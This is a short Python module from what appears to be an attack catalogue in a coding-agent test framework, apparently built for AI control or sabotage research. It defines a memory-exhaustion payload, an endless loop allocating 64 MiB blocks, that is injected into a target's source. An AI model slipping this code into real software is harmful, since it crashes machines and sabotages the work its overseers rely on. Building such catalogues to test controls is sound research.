"""Take memory until the machine has none.

No naive control: it wins nothing, it breaks things.
"""

from __future__ import annotations

from r2egym.attacks.base import Attack, Target, in_source

CODE = """\
_taken = []
while True:
    _taken.append(bytearray(b"x") * (1 << 26))
"""


def _make(target: Target) -> str:
    return in_source(target, CODE)


ATTACK = Attack(__name__, __doc__, "resources", _make, may_fail=True, joins=False, beats="none")
